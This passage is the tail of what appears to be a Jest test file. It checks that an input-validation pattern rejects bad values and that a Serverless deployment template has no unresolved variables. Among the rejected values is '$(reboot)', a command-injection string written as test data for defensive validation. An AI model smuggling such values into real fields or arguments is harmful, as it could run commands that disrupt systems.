          `docker.io/library/comfyui@sha256:${'ab'.repeat(32)}`,
          '$(reboot)',
        ]) {
          expect([bad, pattern.test(bad)]).toEqual([bad, false]);
        }
      });
    });
  });

  it('leaves no unresolved Serverless variable in the template', () => {
    expect(JSON.stringify(template)).not.toMatch(/\$\{(self|file|opt|param|sls|env|aws|cf|ssm|s3):/);
  });
});
